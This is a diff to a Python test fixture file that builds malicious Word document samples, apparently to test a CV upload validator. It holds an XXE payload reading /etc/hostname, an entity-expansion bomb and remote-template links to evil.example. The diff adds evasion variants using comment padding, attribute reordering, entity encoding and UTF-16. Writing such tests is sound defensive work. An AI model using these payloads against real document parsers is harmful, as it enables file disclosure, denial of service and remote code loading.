@@ -20,6 +20,11 @@ HEADING = "name,email"
 XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
 LAUGHS = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
 RELS = b'<Relationships><Relationship Id="r" Type="http://x/%s" Target="http://evil.example/" TargetMode="External"/>'
+RELS += b"</Relationships>"
+TURNED = (
+    b'<Relationships><Relationship TargetMode="External" Target="http://evil.example/" Type="http://x/attached%s"/>'
+)
+TURNED += b"</Relationships>"
 MEGABYTE = 1024 * 1024
 LAST_MOMENT = datetime(9999, 12, 31, 23, 59, 59, 999999, UTC).replace(tzinfo=None)
 
@@ -131,6 +136,27 @@ def cvs() -> dict[str, tuple[str, bytes]]:
         "word with a template from elsewhere": (
             "cv.docx",
             word(**{"word/_rels/settings.xml.rels": RELS % b"attachedTemplate"}),
+        ),
+        "word with a template late in the part": (
+            "cv.docx",
+            word(**{"word/_rels/settings.xml.rels": b"<!--" + b"x" * 70_000 + b"-->" + RELS % b"attachedTemplate"}),
+        ),
+        "word with a template in another order": (
+            "cv.docx",
+            word(**{"word/_rels/settings.xml.RELS": TURNED % b"&#84;emplate"}),
+        ),
+        "word with a template in UTF-16": (
+            "cv.docx",
+            word(**{"word/_rels/settings.xml.rels": (RELS % b"attachedTemplate").decode().encode("utf-16")}),
+        ),
+        "word with late entities": (
+            "cv.docx",
+            word(**{"word/footer.xml": b"<!--" + b"x" * 70_000 + b"-->" + XXE[21:]}),
+        ),
+        "word with broken links": ("cv.docx", word(**{"word/_rels/document.xml.rels": b"<Relationships>"})),
+        "word with endless links": (
+            "cv.docx",
+            word(**{"word/_rels/document.xml.rels": b"<Relationships>" + b"<a/>" * 300_000 + b"</Relationships>"}),
         ),
         "word with a picture from elsewhere": ("cv.docx", word(**{"word/_rels/document.xml.rels": RELS % b"image"})),
         "word packed in an odd way": (
